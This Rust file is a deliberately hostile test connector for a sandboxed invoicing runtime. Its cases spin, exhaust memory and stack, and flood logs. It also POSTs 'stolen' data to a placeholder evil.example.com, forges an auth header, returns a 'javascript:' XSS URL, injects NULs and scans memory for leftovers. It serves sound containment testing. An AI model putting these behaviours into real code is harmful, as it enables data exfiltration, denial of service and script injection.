//! A deliberately hostile connector for the runtime's containment tests.
//! What it does is chosen by the document number:
//!
//! | number     | behaviour                                                  |
//! |------------|------------------------------------------------------------|
//! | `loop`     | spins forever                                              |
//! | `bomb`     | allocates memory until it is stopped                       |
//! | `stack`    | recurses until the stack overflows                         |
//! | `panic`    | panics                                                     |
//! | `logflood` | logs and prints far more than any budget                   |
//! | `evil-host`| POSTs to the URL in setting `target` (not allow-listed)    |
//! | `auth`     | sets its own `Authorization` header                        |
//! | `calls`    | makes HTTP calls until the host stops it                   |
//! | `fetch`    | GETs `https://allowed.test/<description of line 0>`        |
//! | `leftover` | counts a marker left by earlier calls anywhere in its linear |
//! |            | memory, then leaves the marker in a static and on the heap |
//! | `js-link`  | a receipt whose address is `javascript:` and whose id and  |
//! |            | notes hold NUL characters                                  |
//! | `nul-reject` | refuses with a NUL in its message and provider text      |
//! | `nul-panic` | prints a NUL to stderr, then panics                        |
//! | `empty-reject` | refuses with no field error at all                     |
//! | `empty-transient` | a temporary failure with an empty reason            |
//! | `mapped-mapping` | needs a mapping for line 0's kind (also when mapped) |
//! | `alias-notes` | a receipt of 64 notes that are all one 1 MiB string   |
//! | `alias-headers` | a request of 64 headers whose values are all one 1 MiB string |
//! | anything else | behaves: returns a receipt                              |
//!
//! Its `check` writes to its kv store every time, refuses a tenant whose id
//! starts with `refuse` (a NUL in its reason), and names the organisation
//! of a tenant whose id starts with `nul-org` with a NUL and 5,000 more
//! characters.

use ledgerport_sdk::{
    AccountList, CheckReport, Connector, ConnectorInfo, Delivery, DeliveryError, Document,
    DocumentKind, Receipt, connection, errors, http, kv, log,
};

/// The connector (public so a native build sees it used: only the wasm
/// build exports it).
pub struct Hostile;

#[inline(never)]
#[allow(unconditional_recursion)]
fn recurse(n: u64, acc: &mut [u64; 64]) -> u64 {
    acc[(n % 64) as usize] = n;
    let mut local = [n; 64];
    local[0] = recurse(core::hint::black_box(n + 1), &mut local);
    local[0] + acc[1]
}

impl Connector for Hostile {
    fn describe() -> ConnectorInfo {
        ConnectorInfo {
            id: "hostile".into(),
            name: "Hostile test connector".into(),
            version: "0.0.0".into(),
            document_kinds: vec![DocumentKind::Invoice],
        }
    }

    fn list_accounts() -> Result<AccountList, DeliveryError> {
        Ok(AccountList {
            accounts: vec![],
            tax_rates: vec![],
        })
    }

    /// Leaves a value in its kv store at every check, and refuses tenants
    /// whose id starts with `refuse`: a refused first connect must leave
    /// nothing behind.
    fn check() -> Result<CheckReport, DeliveryError> {
        let info = connection::info();
        let _ = kv::set_string("checked", &info.connection_id);
        if info.tenant_id.starts_with("refuse") {
            return Err(errors::needs_reauth(
                "this tenant is\0 refused by the check",
            ));
        }
        // A name no organisation has: a NUL (PostgreSQL cannot store one)
        // and far too long.
        let organisation_name = if info.tenant_id.starts_with("nul-org") {
            format!("hostile\0{}", "x".repeat(5_000))
        } else {
            "hostile".into()
        };
        Ok(CheckReport {
            organisation_name,
            details: vec![],
        })
    }

    fn deliver(delivery: Delivery, doc: Document) -> Result<Receipt, DeliveryError> {
        match doc.number.as_str() {
            "loop" => {
                let mut x: u64 = 0;
                loop {
                    x = core::hint::black_box(x.wrapping_add(1));
                }
            }
            "bomb" => {
                let mut hoard: Vec<Vec<u8>> = Vec::new();
                loop {
                    hoard.push(vec![1u8; 1024 * 1024]);
                    core::hint::black_box(&hoard);
                }
            }
            "stack" => {
                let mut acc = [0u64; 64];
                let n = recurse(0, &mut acc);
                Err(errors::transient(format!("unreachable {n}")))
            }
            "panic" => panic!("hostile connector panicked on purpose"),
            "nul-panic" => {
                eprintln!("Xero\0 said no");
                panic!("hostile connector panicked after a NUL")
            }
            "logflood" => {
                let big = "x".repeat(10_000);
                for i in 0..20_000 {
                    log::info(format!("{i} {big}"));
                }
                for _ in 0..2_000 {
                    println!("{big}");
                    eprintln!("{big}");
                }
                Ok(receipt(&delivery))
            }
            "evil-host" => {
                let target = connection::setting(&connection::info(), "target")
                    .unwrap_or_else(|| "https://evil.example.com/".into());
                let r = http::post(target).body(b"stolen".to_vec()).send();
                Err(errors::transient(match r {
                    Ok(resp) => format!("sent! status {}", resp.status),
                    Err(e) => format!("{e:?}"),
                }))
            }
            "auth" => {
                let r = http::get("https://allowed.test/")
                    .header("Authorization", "Bearer forged")
                    .send();
                Err(errors::transient(match r {
                    Ok(resp) => format!("sent! status {}", resp.status),
                    Err(e) => format!("{e:?}"),
                }))
            }
            "calls" => {
                for i in 0..10_000 {
                    if let Err(e) = http::get("https://allowed.test/ping").send() {
                        return Err(errors::transient(format!("after {i} calls: {e:?}")));
                    }
                }
                Ok(receipt(&delivery))
            }
            "fetch" => {
                let path = doc
                    .lines
                    .first()
                    .map(|l| l.description.clone())
                    .unwrap_or_default();
                match http::get(format!("https://allowed.test/{path}")).send() {
                    Ok(resp) => Ok(Receipt {
                        external_id: format!("status {} bytes {}", resp.status, resp.body.len()),
                        external_url: None,
                        notes: vec![],
                    }),
                    Err(e) => Err(errors::transient(format!("{e:?}"))),
                }
            }
            // Needs a mapping, but names no line kind: nothing an admin
            // maps can ever satisfy it.
            "unnamed-mapping" => Err(DeliveryError::NeedsMapping(vec![])),
            "js-link" => Ok(Receipt {
                external_id: "BILL\0-1".into(),
                external_url: Some("javascript:alert(document.domain)".into()),
                notes: vec!["a\0b".into(), String::new()],
            }),
            "nul-reject" => Err(DeliveryError::Rejected(vec![ledgerport_sdk::FieldError {
                field: "lines[0]\0".into(),
                message: "bad\0 account".into(),
                provider_message: Some("Xero\0 said no".into()),
            }])),
            "empty-reject" => Err(DeliveryError::Rejected(vec![])),
            "empty-transient" => Err(DeliveryError::Transient(String::new())),
            // Says the account of line 0's kind cannot be used, whatever
            // it is mapped to (as a connector whose mapped account was
            // archived in the provider would).
            "mapped-mapping" => Err(DeliveryError::NeedsMapping(
                doc.lines
                    .first()
                    .map(|l| vec![l.kind.clone()])
                    .unwrap_or_default(),
            )),
            "credentials" => {
                // Not hostile: asks for the connection's token the way a
                // connector should (the SDK's classification of the answer).
                let resp = http::get("https://allowed.test/whoami")
                    .with_credentials()
                    .send()
                    .map_err(errors::from_http)?;
                Ok(Receipt {
                    external_id: format!("status {}", resp.status),
                    external_url: None,
                    notes: vec![],
                })
            }
            // 1 MiB of the guest's memory, 64 MiB to a host that copies
            // every note.
            "alias-notes" => Ok(Receipt {
                external_id: "aliased".into(),
                external_url: None,
                notes: aliases(64, 1 << 20),
            }),
            "alias-headers" => {
                let mut req = http::get("https://allowed.test/aliased");
                for (i, v) in aliases(64, 1 << 20).into_iter().enumerate() {
                    req = req.header(format!("x-alias-{i}"), v);
                }
                let resp = req.send().map_err(errors::from_http)?;
                Ok(Receipt {
                    external_id: format!("status {}", resp.status),
                    external_url: None,
                    notes: vec![],
                })
            }
            "leftover" => Ok(Receipt {
                external_id: format!("seen {}", leftover()),
                external_url: None,
                notes: vec![],
            }),
            _ => Ok(receipt(&delivery)),
        }
    }
}

/// `n` strings that are all the same `bytes` bytes of memory (the canonical
/// ABI passes a string as a pointer and a length, so nothing stops a guest
/// from giving the same one many times).
fn aliases(n: usize, bytes: usize) -> Vec<String> {
    let one = core::mem::ManuallyDrop::new("x".repeat(bytes));
    (0..n)
        // SAFETY: not sound in general (each copy frees the same block when
        // dropped); here the SDK's bump allocator ignores frees of anything
        // but its newest block, which is the list's own buffer, and the
        // instance is thrown away after the call.
        .map(|_| unsafe {
            String::from_raw_parts(one.as_ptr() as *mut u8, one.len(), one.capacity())
        })
        .collect()
}

/// A static the `leftover` case writes its marker into.
static mut LEFT_IN_STATIC: [u8; 32] = [0; 32];

/// Count the copies of a marker anywhere in this instance's linear memory
/// (other than the one this call holds), then leave the marker behind on the
/// heap and in a static. In a fresh instance the count is 0; a call that
/// found an earlier call's marker would prove memory leaks between calls.
fn leftover() -> usize {
    // Built at run time so the marker is not in the data segment.
    let marker: Vec<u8> = b"REVOTFEL-LLAC-SUOIVERP".iter().rev().copied().collect();
    let seen = copies_in_memory(&marker) - 1; // this call's own copy
    leave(&marker);
    seen
}

/// How many copies of `marker` this instance's linear memory holds.
#[cfg(target_arch = "wasm32")]
fn copies_in_memory(marker: &[u8]) -> usize {
    let size = core::arch::wasm32::memory_size(0) * 65536;
    (16..size - marker.len())
        .filter(|&at| {
            // SAFETY: every address below memory_size is in linear memory.
            let here = unsafe { core::slice::from_raw_parts(at as *const u8, marker.len()) };
            here == marker
        })
        .count()
}

/// Linear memory exists only in the sandbox: a native build (`cargo test
/// --workspace` compiles every member for this machine) has none to scan,
/// and counts only the caller's own copy.
#[cfg(not(target_arch = "wasm32"))]
fn copies_in_memory(_marker: &[u8]) -> usize {
    1
}

/// Leave `marker` on the heap and in a static, with volatile writes so the
/// optimiser cannot drop stores nothing reads.
fn leave(marker: &[u8]) {
    let heap = Box::leak(vec![0u8; marker.len()].into_boxed_slice());
    for (i, b) in marker.iter().enumerate() {
        // SAFETY: both destinations are valid for marker.len() bytes; the
        // connector is single-threaded, so nothing else touches the static.
        unsafe {
            core::ptr::write_volatile(heap.as_mut_ptr().add(i), *b);
            core::ptr::write_volatile(
                core::ptr::addr_of_mut!(LEFT_IN_STATIC).cast::<u8>().add(i),
                *b,
            );
        }
    }
}

fn receipt(d: &Delivery) -> Receipt {
    Receipt {
        external_id: format!("ok-{}", d.key),
        external_url: None,
        notes: vec![],
    }
}

ledgerport_sdk::export_connector!(Hostile);
